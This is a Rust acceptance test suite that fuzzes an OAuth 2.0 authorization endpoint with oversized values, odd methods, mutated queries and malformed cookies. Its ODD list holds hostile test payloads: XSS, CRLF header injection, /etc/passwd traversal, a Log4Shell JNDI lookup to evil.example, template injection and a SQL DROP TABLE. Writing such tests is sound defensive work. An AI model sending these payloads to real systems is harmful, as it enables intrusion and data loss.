//! Authorization requests that nobody honest sends: never a code, never a 5xx, and what is long comes back whole or not at all.
//!
//! Spec: RFC 6749 4.1.2.1; OAuth 2.0 Form Post Response Mode 1.0.

use serde_json::json;
use tessera_acceptance::app::{App, REDIRECT_URI, Tokens, assert_refused};
use tessera_acceptance::browser::{Browser, Landed, assert_harmless, landed, told};
use tessera_acceptance::database::Engine;
use tessera_acceptance::flow::start;
use tessera_acceptance::http::Request;

#[test]
fn long_values_come_back_whole_or_are_refused_clearly() {
    for engine in Engine::at_hand() {
        let (server, app) = start(engine, &json!({}));
        let login = json!({"subject": "ann"});
        for (length, must_work) in [(512, true), (4_096, true), (16_384, false), (65_536, false)] {
            let state = "s".repeat(length);
            let ask = app
                .ask()
                .with("state", &state)
                .with("nonce", &"n".repeat(1_024));
            let mut browser = Browser::default();
            let answer = browser.authorize(&server, &ask.query());
            if !must_work && (400..500).contains(&answer.status) {
                assert!(
                    answer.body.len() > 10 || answer.status == 431,
                    "a text: {}",
                    answer.body
                );
                continue;
            }
            let place = landed(&answer);
            if !must_work && !place.error().is_empty() {
                assert!(
                    !place.parameter("error_description").is_empty(),
                    "{place:?}"
                );
                continue;
            }
            let challenge = place.login();
            assert!(challenge.len() < 1_600, "{engine:?}: {}", challenge.len());
            let end = app.go_on(&server, &mut browser, &challenge, &login, &json!({}));
            let place = landed(&end);
            assert_eq!(place.parameter("state"), state, "{engine:?}");
            let pair = Tokens::of(&app.redeem(&server, &place.code()));
            assert_eq!(pair.id_claims()["nonce"], "n".repeat(1_024), "{engine:?}");
        }
        // The rest of what a request may carry.
        let long = "x".repeat(4_096);
        for name in [
            "login_hint",
            "ui_locales",
            "acr_values",
            "display",
            "claims_locales",
            "own",
            "code_challenge",
            "scope",
            "prompt",
            "response_type",
            "audience",
            "client_id",
            "max_age",
            "id_token_hint",
            "request",
            "request_uri",
            "registration",
            "login_verifier",
            "consent_verifier",
        ] {
            let answer =
                Browser::default().authorize(&server, &app.ask().with(name, &long).query());
            assert_harmless(
                &answer,
                &[REDIRECT_URI],
                &format!("{engine:?} a long {name}"),
            );
        }
        let many = (0..2_000).fold(app.ask(), |ask, i| ask.and(&format!("own{i}"), "x"));
        let answer = Browser::default().authorize(&server, &many.query());
        assert_harmless(&answer, &[REDIRECT_URI], "many parameters");
        let scopes: Vec<String> = (0..2_000).map(|i| format!("s{i}")).collect();
        let ask = app.ask().with("scope", &scopes.join(" "));
        assert_harmless(
            &Browser::default().authorize(&server, &ask.query()),
            &[REDIRECT_URI],
            "many scopes",
        );
    }
}

#[test]
fn a_request_by_post_is_carried_like_any_other() {
    for engine in Engine::at_hand() {
        let (server, app) = start(engine, &json!({}));
        let mut browser = Browser::default();
        let url = format!("{}/oauth2/auth", server.public());
        let challenge = landed(&browser.post(&url, &app.ask().query())).login();
        let login = json!({"subject": "ann"});
        let end = app.go_on(&server, &mut browser, &challenge, &login, &json!({}));
        let code = landed(&end).code();
        assert_eq!(app.redeem(&server, &code).status, 200, "{engine:?}");
        for (kind, body) in [
            ("application/json", json!({"client_id": "app"}).to_string()),
            ("text/plain", app.ask().query()),
            ("multipart/form-data; boundary=x", "--x\r\n".to_owned()),
            ("", app.ask().query()),
        ] {
            let answer = Request::for_url("POST", &url)
                .unwrap()
                .body(kind, &body)
                .send();
            assert_harmless(&answer, &[REDIRECT_URI], kind);
        }
        for method in ["PUT", "DELETE", "PATCH", "HEAD", "OPTIONS", "TRACE"] {
            let address = format!("{url}?{}", app.ask().query());
            let answer = Request::for_url(method, &address).unwrap().send();
            assert_harmless(&answer, &[REDIRECT_URI], method);
        }
    }
}

#[test]
fn the_form_post_page_escapes_what_it_carries() {
    let (server, app) = start(Engine::Sqlite, &json!({}));
    let state = "\"><script>alert(1)</script><input value='&amp;\u{e9}";
    let ask = app
        .ask()
        .with("response_mode", "form_post")
        .with("state", state);
    let mut browser = Browser::default();
    let challenge = landed(&browser.authorize(&server, &ask.query())).login();
    let login = json!({"subject": "ann"});
    let answer = app.go_on(&server, &mut browser, &challenge, &login, &json!({}));
    assert!(!answer.body.contains("<script>alert"), "{}", answer.body);
    let caching = answer.header("cache-control").unwrap_or_default();
    assert!(caching.contains("no-store"), "{caching}");
    let policy = answer.header("content-security-policy").expect("a policy");
    assert!(
        !policy.contains("form-action 'self'") && !policy.contains("'unsafe-inline'"),
        "{policy}"
    );
    let place = landed(&answer);
    assert!(
        matches!(&place, Landed::Client(to, _) if to == REDIRECT_URI),
        "{place:?}"
    );
    assert_eq!(place.parameter("state"), state, "{}", answer.body);
    assert_eq!(app.redeem(&server, &place.code()).status, 200);
    let refused = ask.with("scope", "none-of-yours");
    let place = assert_harmless(
        &browser.authorize(&server, &refused.query()),
        &[REDIRECT_URI],
        "refused",
    );
    assert_eq!(place.error(), "invalid_scope");
}

#[test]
fn scope_and_audience_stay_within_what_the_client_may_ask() {
    let (server, _) = start(Engine::Sqlite, &json!({}));
    let app = App::register(
        &server,
        "narrow",
        &json!({"scope": "openid offline a.*", "audience": ["https://api.example/one"]}),
    );
    for (name, value, error) in [
        ("scope", "openid b", "invalid_scope"),
        ("scope", "openid *", "invalid_scope"),
        ("scope", "openid A.x", "invalid_scope"),
        ("scope", "openid a", "invalid_scope"),
        ("scope", "openid a.", "invalid_scope"),
        ("audience", "https://api.example", "invalid_request"),
        ("audience", "https://api.example/one1", "invalid_request"),
        ("audience", "https://API.example/one", "invalid_request"),
        (
            "audience",
            "https://api.example/one https://evil.example",
            "invalid_request",
        ),
        ("response_type", "token", "unsupported_response_type"),
        ("response_type", "code token", "unsupported_response_type"),
        ("response_type", "id_token", "unsupported_response_type"),
        ("response_type", "none", "unsupported_response_type"),
        ("response_type", "code code", "unsupported_response_type"),
        ("response_type", "", "unsupported_response_type"),
        ("response_type", "CODE", "unsupported_response_type"),
        ("registration", "{}", "registration_not_supported"),
    ] {
        let answer = Browser::default().authorize(&server, &app.ask().with(name, value).query());
        let what = format!("{name}={value}");
        let place = assert_harmless(&answer, &[REDIRECT_URI], &what);
        assert_eq!(place.error(), error, "{what}: {place:?}");
    }
    let machine = App::register(
        &server,
        "machine",
        &json!({"grant_types": ["client_credentials"]}),
    );
    let login = json!({"subject": "ann"});
    let code = machine.sign_in(&server, &mut Browser::default(), &machine.ask(), &login);
    assert_refused(
        &machine.redeem(&server, &code),
        "unauthorized_client",
        "no code grant",
    );
}

/// Texts that have broken servers.
const ODD: [&str; 24] = [
    "",
    " ",
    "\0",
    "\r\nX-Evil: 1",
    "%",
    "%0d%0aX-Evil: 1",
    "%zz",
    "'",
    "\" onload=\"alert(1)",
    "<script>alert(1)</script>",
    "../../../etc/passwd",
    "${jndi:ldap://evil.example}",
    "{{7*7}}",
    "'; DROP TABLE clients; --",
    "\u{feff}",
    "\u{202e}gnp",
    "\u{1f4a5}",
    "-1",
    "99999999999999999999",
    "NaN",
    "null",
    "[]",
    "javascript:alert(1)",
    "https://evil.example",
];

#[test]
fn no_mutation_of_a_request_gives_more_than_a_refusal() {
    const NAMES: [&str; 20] = [
        "client_id",
        "response_type",
        "scope",
        "redirect_uri",
        "state",
        "nonce",
        "code_challenge",
        "code_challenge_method",
        "response_mode",
        "prompt",
        "max_age",
        "audience",
        "resource",
        "login_hint",
        "id_token_hint",
        "request",
        "request_uri",
        "login_verifier",
        "consent_verifier",
        "claims",
    ];
    let (server, app) = start(Engine::Sqlite, &json!({}));
    let mut browser = Browser::default();
    app.sign_in_with(
        &server,
        &mut browser,
        &app.ask(),
        &json!({"subject": "ann", "remember": true}),
        &json!({"remember": true}),
    );
    let mut queries: Vec<String> = Vec::new();
    for name in NAMES {
        queries.push(app.ask().without(name).query());
        queries.push(app.ask().and(name, "x").and(name, "y").query());
        queries.push(format!("{}&{name}", app.ask().query()));
        for odd in ODD {
            queries.push(app.ask().with(name, odd).query());
            queries.push(app.ask().with("prompt", "none").with(name, odd).query());
            queries.push(
                app.ask()
                    .with("response_mode", "form_post")
                    .with(name, odd)
                    .query(),
            );
        }
        queries.push(app.ask().with(&name.to_uppercase(), "x").query());
        // Bytes that are no text.
        queries.push(format!("{}&{name}=%ff%fe", app.ask().without(name).query()));
        queries.push(format!("{name}=%c0%80&{}", app.ask().without(name).query()));
    }
    let plain = app.ask().query();
    for i in 0..plain.len() {
        let mut bytes = plain.clone().into_bytes();
        bytes[i] = bytes[i].wrapping_add(13) % 94 + 33;
        queries.extend((bytes[i] != b'#').then(|| String::from_utf8(bytes).unwrap()));
    }
    queries.extend(["", "&", "=", "&&&&", "?", "=&=&", "%", "client_id"].map(str::to_owned));
    assert!(queries.len() > 1_000);
    let mut asked = 0;
    for query in &queries {
        for mut browser in [browser.clone(), Browser::default()] {
            let answer = browser.authorize(&server, query);
            let place = assert_harmless(&answer, &[REDIRECT_URI], query);
            // What is still a request asks the person, with the client that it names.
            if let Landed::Login(challenge) = place {
                asked += 1;
                assert_eq!(
                    told(&server, "login", &challenge)["client"]["client_id"],
                    "app",
                    "{query}"
                );
            }
        }
    }
    assert!(asked > 100, "most mutations were refused: {asked}");
    assert!(asked < queries.len() * 2, "no mutation was refused");
}

#[test]
fn odd_cookies_break_nothing() {
    let (server, app) = start(Engine::Sqlite, &json!({}));
    let mut home = Browser::default();
    app.sign_in(
        &server,
        &mut home,
        &app.ask(),
        &json!({"subject": "ann", "remember": true}),
    );
    let name = home.jar.named("ory_hydra_session").unwrap().0.to_owned();
    let big = "A".repeat(8_000);
    let mut lines: Vec<String> = ODD
        .iter()
        .filter(|odd| !odd.contains(['\0', '\r']))
        .flat_map(|odd| {
            [
                format!("{name}={odd}"),
                (*odd).to_owned(),
                format!("{odd}={odd}; {name}=x"),
            ]
        })
        .collect();
    lines.extend([
        format!("{name}={big}"),
        format!("{name}=a; {name}=b"),
        format!("{name}=\"{big}\""),
        format!("{};;;", name),
        vec![format!("{name}=x"); 100].join("; "),
    ]);
    for line in lines {
        for path in ["/oauth2/auth", "/oauth2/sessions/logout"] {
            let query = if path.ends_with("auth") {
                app.ask().query()
            } else {
                String::new()
            };
            let url = format!("{}{path}?{query}", server.public());
            let answer = Request::for_url("GET", &url)
                .unwrap()
                .header("Cookie", &line)
                .send();
            assert_harmless(&answer, &[REDIRECT_URI], &line);
        }
    }
}
